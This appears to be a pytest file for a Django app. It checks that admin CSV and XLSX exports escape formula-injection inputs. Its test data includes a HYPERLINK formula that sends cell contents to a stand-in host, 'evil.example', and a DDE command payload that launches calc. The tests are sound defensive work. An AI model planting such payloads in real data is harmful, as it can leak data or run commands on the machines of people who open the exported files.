"""Admin exports (django-import-export) neutralise text a spreadsheet would run as a formula, as the API does."""

from __future__ import annotations

import io

import openpyxl
import pytest
from django.urls import reverse

from accounts.models import AccessRequest
from cities.models import City
from cities.resources import CityResource
from experts.resources import ExpertResource
from policies.resources import PolicyModuleResource
from tests import factories

pytestmark = pytest.mark.django_db

CSV, XLSX = "0", "1"  # positions in SpreadsheetImportExportMixin.formats
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Open the report")'


def export(client, prefix: str, resource, fmt: str):
    fields = {f"{resource.__name__.lower()}_{name}": "on" for name in resource().get_export_order()}
    response = client.post(reverse(f"admin:{prefix}_export"), {"format": fmt, "resource": "0", **fields})
    assert response.status_code == 200, response.content[:300]
    return response.content


def xlsx_cells(content: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_a_joined_city_named_like_a_formula_is_exported_as_text(client, staff_officer):
    join = client.post(
        reverse("portal:access_request"),
        {
            "city_name": HYPERLINK,
            "country": "MN",
            "region": "east_asia",
            "first_name": "Eve",
            "last_name": "Mallory",
            "email": "eve@example.org",
            "job_title": "Officer",
            "organisation": "City hall",
            "preferred_language": "en",
        },
    )
    assert join.status_code == 302, join.content[:500]
    request = AccessRequest.objects.get(city_name=HYPERLINK)

    client.force_login(staff_officer)
    approve = client.post(
        reverse("admin:accounts_accessrequest_changelist"), {"action": "approve", "_selected_action": [request.pk]}
    )
    assert approve.status_code == 302
    assert City.objects.filter(name=HYPERLINK).exists()

    csv_text = export(client, "cities_city", CityResource, CSV).decode()
    assert "'" + HYPERLINK.replace('"', '""') in csv_text
    assert "\n" + HYPERLINK[:10] not in csv_text and "," + HYPERLINK[:10] not in csv_text

    cells = xlsx_cells(export(client, "cities_city", CityResource, XLSX))
    named = [cell for cell in cells if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
    assert named and all(cell.data_type == "s" and cell.value == "'" + HYPERLINK for cell in named)


@pytest.mark.parametrize(
    ("prefix", "resource", "make", "value"),
    [
        ("experts_expert", ExpertResource, lambda v: factories.ExpertFactory(name=v), "+cmd|' /C calc'!A0"),
        ("policies_policymodule", PolicyModuleResource, lambda v: factories.PolicyModuleFactory(title=v), "-2+3"),
        ("cities_city", CityResource, lambda v: factories.CityFactory(name="Lima", notes=v), "@SUM(A1:A2)"),
    ],
)
def test_every_resource_escapes_formulae(client, staff_officer, prefix, resource, make, value):
    make(value)
    client.force_login(staff_officer)
    assert "'" + value in export(client, prefix, resource, CSV).decode()
    cells = xlsx_cells(export(client, prefix, resource, XLSX))
    assert any(cell.value == "'" + value and cell.data_type == "s" for cell in cells)
    assert not any(cell.data_type == "f" for cell in cells)


def test_plain_cells_are_left_alone(client, staff_officer):
    factories.CityFactory(name="Bogota", population=7_000_000, notes="", website="")
    client.force_login(staff_officer)
    cells = xlsx_cells(export(client, "cities_city", CityResource, XLSX))
    assert any(cell.value in (7_000_000, "7000000") for cell in cells)
    assert any(cell.value == "Bogota" for cell in cells)
    assert not any(cell.value == "None" or str(cell.value).startswith("'") for cell in cells)
